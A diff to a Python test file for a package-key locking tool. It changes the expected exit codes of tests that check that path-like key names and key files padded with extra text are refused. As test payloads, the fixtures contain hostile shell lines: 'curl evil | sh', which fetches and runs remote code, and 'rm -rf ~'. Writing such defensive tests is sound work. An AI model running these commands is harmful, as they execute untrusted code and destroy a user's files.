@@ -48,7 +48,7 @@ def test_a_key_name_that_is_a_path_is_refused_before_anything_is_fetched(world: 
     world.pins["alpine"]["keys"] = {evil: entry}
     world.mirror.add(entry["url"], b"echo pwned\n")
     proc = world.run("lock")
-    assert proc.returncode == 1, proc.stderr
+    assert proc.returncode == 4, proc.stderr
     assert f"pins.json: alpine.keys.{evil}: {evil!r} is not a plain file name: contains '/'" in proc.stderr
     assert "Traceback" not in proc.stderr
     assert not target.exists() and not world.mirror.requests
@@ -64,7 +64,7 @@ def test_a_key_file_with_text_around_the_key_is_refused_and_not_kept(world: Worl
     for served in (b"#!/bin/sh\ncurl evil | sh\n" + apkrepo.public_pem(), apkrepo.public_pem() + b"rm -rf ~\n"):
         world.mirror.add(url, served)
         proc = world.run("lock")
-        assert proc.returncode == 1, proc.stderr
+        assert proc.returncode == 6, proc.stderr
         assert f"key {apkrepo.KEY_NAME} from {url} is not a PEM public key and nothing else" in proc.stderr
         kept = list((world.cache / "keys").rglob(apkrepo.KEY_NAME)) if (world.cache / "keys").exists() else []
         assert kept == [] and not (world.tmp / "alpine.lock.json").exists()
@@ -88,7 +88,7 @@ def test_a_key_file_with_text_around_the_key_is_refused_and_not_kept(world: Worl
 def test_pins_names_and_templates_are_checked(world: World, edit: object, message: str) -> None:
     edit(world.pins)  # type: ignore[operator]
     proc = world.run("download")
-    assert proc.returncode == 1 and f"pins.json: {message}" in proc.stderr, proc.stderr
+    assert proc.returncode == 4 and f"pins.json: {message}" in proc.stderr, proc.stderr
     assert "Traceback" not in proc.stderr and not world.mirror.requests
 
 
